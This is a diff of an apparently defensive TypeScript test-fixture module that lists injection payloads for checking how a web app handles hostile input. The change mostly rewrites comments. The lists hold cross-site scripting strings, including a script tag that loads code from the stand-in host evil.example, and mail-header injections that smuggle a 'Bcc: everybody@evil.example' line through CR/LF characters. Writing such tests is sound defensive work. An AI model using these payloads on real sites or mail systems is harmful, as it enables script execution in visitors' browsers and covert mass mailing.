@@ -1,8 +1,8 @@
-/** Text as nobody means well with: to be run by a browser, or to become a line of a mail's head. */
+/** Injection payloads for HTML, mail headers and spreadsheets. */
 import { FORMULAS } from './csv.ts';
 import type { parsedPage } from './parsed-page.ts';
 
-/** What a page or a mail program might run, or make an element of, if it took text for markup. */
+/** Markup and script injections. */
 export const SCRIPTS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -64,7 +64,7 @@ export const SCRIPTS = [
   '<%= alert(1) %>',
 ] as const;
 
-/** What might become a line of a mail's head, or another address, if a mail took text for its own. */
+/** Mail header and address injections. */
 export const HEADER_LINES = [
   'a\r\nBcc: everybody@evil.example',
   'a\nBcc: everybody@evil.example',
@@ -88,14 +88,14 @@ export const HEADER_LINES = [
   `${'a'.repeat(990)}\r\nBcc: everybody@evil.example`,
 ] as const;
 
-/** All of them, and what a spreadsheet would take for a formula. */
+/** All payloads, formulas included. */
 export const TEXTS = [...SCRIPTS, ...HEADER_LINES, ...FORMULAS];
 
-/** Long enough for a telephone, and without a blank, which an id must not have. */
-export const HARMLESS = 'Harmless-text';
+/** Valid in every field: enough digits for a telephone number, no blank for an id. */
+export const HARMLESS = 'Harmless-123456789';
 
 export const sameLines = (text: string) => text.replaceAll(/\r\n?/g, '\n').trim();
 
-/** The elements with their attributes, but for what a visitor typed into a field. */
+/** Elements and attributes, without field values. */
 export const structureOf = (page: ReturnType<typeof parsedPage>) =>
   page.parts.map(({ tag, attributes: { value, ...attributes } }) => ({ tag, attributes, has: value !== undefined }));
